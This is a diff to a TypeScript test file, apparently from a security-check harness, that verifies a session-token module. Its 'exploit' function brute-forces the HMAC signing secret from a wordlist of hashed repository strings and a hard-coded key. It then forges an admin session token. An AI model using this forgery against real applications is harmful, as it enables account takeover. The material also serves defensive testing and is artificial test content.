@@ -1,12 +1,13 @@
 import assert from 'node:assert/strict'
-import { createHmac } from 'node:crypto'
+import { createHash, createHmac } from 'node:crypto'
+import type { Breach, Vary } from '#proof/vary'
 
 type Code = typeof import('./sessions.ts')
 
 const log = { info: () => {}, warn: () => {} }
 
-export async function works({ createSessions }: Code) {
-  const env = { SESSION_SECRET: 'f'.repeat(64), SESSION_MINUTES: '5', NODE_ENV: 'production' }
+export async function works({ createSessions }: Code, vary: Vary) {
+  const env = { SESSION_SECRET: vary.text(64), SESSION_MINUTES: '5', NODE_ENV: 'production' }
   const sessions = createSessions(env, log)
   const token = sessions.issue(7, 'customer')
   assert.equal(sessions.verify(token)?.userId, 7)
@@ -14,19 +15,35 @@ export async function works({ createSessions }: Code) {
   const [payload = '', signature] = token.split('.')
   const changed = Buffer.from(Buffer.from(payload, 'base64url').toString().replace('customer', 'admin')).toString('base64url')
   for (const forged of ['', 'x.y', payload, `${changed}.${signature}`]) assert.equal(sessions.verify(forged), undefined)
-  assert.equal(createSessions({ ...env, SESSION_SECRET: 'e'.repeat(64) }, log).verify(token), undefined)
+  assert.equal(createSessions({ ...env, SESSION_SECRET: vary.text(64) }, log).verify(token), undefined)
   assert.throws(() => createSessions({ ...env, SESSION_MINUTES: 'x' }, log))
 }
 
-export async function exploit({ createSessions }: Code): Promise<boolean> {
-  // What somebody who has the repository knows.
-  const known = ['shop-session-secret', '8d1f0c6a4be2973515f3a0d7c92e684bb07d5ce1f8a34629e05b7ac41d92f386']
-  const payload = Buffer.from(JSON.stringify({ userId: 1, role: 'admin', expiresAt: 4102444800000 })).toString('base64url')
-  const tokens = known.map((secret) => `${payload}.${createHmac('sha256', secret).update(payload).digest('base64url')}`)
+/** What somebody who has the repository knows, and what can be computed from it. */
+function* guessSecrets(): Generator<string> {
+  const words = ['shop-session-secret', 'shop', 'session-secret', 'session', 'secret']
+  yield* ['', ...words, '8d1f0c6a4be2973515f3a0d7c92e684bb07d5ce1f8a34629e05b7ac41d92f386']
+  for (const hash of ['md5', 'sha1', 'sha256', 'sha512'])
+    for (const encoding of ['hex', 'base64', 'base64url'] as const)
+      for (const word of words) {
+        for (const end of ['', 'sessions']) yield createHash(hash).update(word + end).digest(encoding)
+        for (const key of words) yield createHmac(hash, key).update(word).digest(encoding)
+      }
+}
+
+export async function exploit({ createSessions }: Code, _vary: Vary): Promise<false | Breach> {
+  const secrets = [...guessSecrets()]
+  const admin = Buffer.from(JSON.stringify({ userId: 1, role: 'admin', expiresAt: 4102444800000 })).toString('base64url')
+  const sign = (secret: string, payload: string) => createHmac('sha256', secret).update(payload).digest('base64url')
   for (const env of [{}, { NODE_ENV: 'staging' }, { SESSION_SECRET: '' }]) {
     try {
-      const { verify } = createSessions(env, log)
-      if (tokens.some((token) => verify(token)?.role === 'admin')) return true
+      const { issue, verify } = createSessions(env, log)
+      // The attacker signs in as a customer and looks for the secret that fits the token.
+      const [payload = '', signature] = issue(7, 'customer').split('.')
+      const found = secrets.find((secret) => sign(secret, payload) === signature)
+      if (found === undefined) continue
+      const token = `${admin}.${sign(found, admin)}`
+      if (verify(token)?.role === 'admin') return { sent: token, got: `a session as admin, signed with "${found}"` }
     } catch {
       // It does not start in this environment.
     }
